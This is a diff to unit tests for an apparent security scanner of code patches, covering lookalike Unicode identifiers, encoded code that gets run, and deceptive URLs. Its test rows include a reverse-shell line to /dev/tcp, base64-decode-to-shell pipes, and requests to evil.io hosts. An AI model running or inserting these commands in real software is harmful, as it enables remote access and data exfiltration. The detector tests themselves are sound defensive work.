@@ -90,6 +90,7 @@ letters_in_the_clothes_of_others_are_found(void **state)
 		{ "a.js", "+if (a \307\203= b)", "lookalike" },
 		{ "a.js", "+x = 1\315\276 y", "lookalike" },
 		{ "a.js", "+if (a\357\274\235b) return", "lookalike" },
+		{ "a.py", "+\321\201\320\276\321\200 = 2", "lookalike" },
 		{ "a.py", "-cop = 1\n+\321\201\320\276\321\200 = 2",
 		    "homoglyph" },
 		{ "a.py", "+def cop(): pass\n+\321\201\320\276\321\200()",
@@ -97,6 +98,10 @@ letters_in_the_clothes_of_others_are_found(void **state)
 	};
 	static const struct row absent[] = {
 		{ "a.py", "+\321\201\320\276\321\200 = 2", "homoglyph" },
+		{ "a.py",
+		    "+# \320\263\320\264\320\265 \321\201\320\276\321\200?",
+		    "lookalike" },
+		{ "a.md", "+\304\261\304\237d\304\261r", "mixed-scripts" },
 		{ "a.md", "+cop \321\201\320\276\321\200", "homoglyph" },
 		{ "a.py", "+\316\224t = 1", "mixed-scripts" },
 		{ "a.py", "+# \320\277\321\200\320\270\320\262\320\265\321\202",
@@ -139,16 +144,18 @@ static void
 encoded_programs_that_run_are_found(void **state)
 {
 	static const struct row found[] = {
-		{ "a.js", "+eval(atob('ZXZpbA=='))", "decode-and-run" },
-		{ "a.py", "+exec(base64.b64decode(x))", "decode-and-run" },
-		{ "a.sh", "+echo aGk= | base64 -d | sh", "decode-and-run" },
-		{ "a.sh", "+xxd -r -p x | bash", "decode-and-run" },
+		{ "a.js", "+eval(atob('ZXZpbA=='))", "encoded-run" },
+		{ "a.py", "+exec(base64.b64decode(x))", "encoded-run" },
+		{ "a.sh", "+echo aGk= | base64 -d | sh", "encoded-run" },
+		{ "a.sh", "+xxd -r -p x | bash", "encoded-run" },
 		{ "a.php", "+<?php eval(gzinflate(base64_decode($x)));",
-		    "decode-and-run" },
+		    "encoded-run" },
 		{ "a.js", "+new Function(Buffer.from(x, 'base64'))",
-		    "decode-and-run" },
+		    "encoded-run" },
+		{ "a.js", "+Function(String.fromCharCode(97))()",
+		    "encoded-run" },
 		{ "a.js", "+x = atob(y)\n+eval(x)", "obfuscated" },
-		{ "a.py", "+pickle.loads(data)", "unsafe-load" },
+		{ "a.py", "+pickle.loads(data)", "dangerous-load" },
 		{ "a.sh", "+LD_PRELOAD=./x.so ls", "preload" },
 		{ "a.sh", "+bash -i >& /dev/tcp/h/1", "remote-shell" },
 		{ "a.sh", "+exec 3<>/dev/tcp/h/1", "shell-socket" },
@@ -163,8 +170,10 @@ encoded_programs_that_run_are_found(void **state)
 		    "pipe-to-shell" },
 	};
 	static const struct row absent[] = {
-		{ "a.js", "+re.exec(atob(x))", "decode-and-run" },
-		{ "a.js", "+medieval(atob(x))", "decode-and-run" },
+		{ "a.js", "+re.exec(atob(x))", "encoded-run" },
+		{ "a.js", "+x = function(y) { return atob(y); }",
+		    "encoded-run" },
+		{ "a.js", "+medieval(atob(x))", "encoded-run" },
 		{ "a.js", "+x = atob(y)", "obfuscated" },
 		{ "a.sh", "+curl https://x.io -o f | tee log",
 		    "pipe-to-shell" },
@@ -182,11 +191,11 @@ static void
 addresses_that_deceive_or_are_nobodys_are_found(void **state)
 {
 	static const struct row found[] = {
-		{ "a.js", "+get('http://93.184.216.34/x')", "raw-address" },
-		{ "a.js", "+get('http://0x5db8d822/x')", "odd-host" },
-		{ "a.js", "+get('https://xn--pple-43d.com/')", "odd-host" },
-		{ "a.js", "+get('https://\320\260pple.com/')", "odd-host" },
-		{ "a.js", "+get('https://good.com@evil.io/')", "odd-host" },
+		{ "a.js", "+get('http://93.184.216.34/x')", "address-raw" },
+		{ "a.js", "+get('http://0x5db8d822/x')", "host-odd" },
+		{ "a.js", "+get('https://xn--pple-43d.com/')", "host-odd" },
+		{ "a.js", "+get('https://\320\260pple.com/')", "host-odd" },
+		{ "a.js", "+get('https://good.com@evil.io/')", "host-odd" },
 		{ "a.js", "+get('https://u:hunter2x@evil.io/')",
 		    "secret-likely" },
 		{ "a.js", "+'https://discord.com/api/webhooks/1'",
@@ -197,10 +206,10 @@ addresses_that_deceive_or_are_nobodys_are_found(void **state)
 		{ "a.py", "+get(u, verify=False)", "tls-off" },
 	};
 	static const struct row absent[] = {
-		{ "a.js", "+get('http://127.0.0.1:80/x')", "raw-address" },
-		{ "a.js", "+get('http://10.1.2.3/x')", "raw-address" },
+		{ "a.js", "+get('http://127.0.0.1:80/x')", "address-raw" },
+		{ "a.js", "+get('http://10.1.2.3/x')", "address-raw" },
 		{ "tests/a.js", "+get('http://93.184.216.34/')",
-		    "raw-address" },
+		    "address-raw" },
 		{ "a.js", "-get('https://old.io/')\n+go('https://old.io/y')",
 		    "new-host" },
 		{ "a.js", "+go('https://old.io/y')\n-get('https://OLD.io/')",
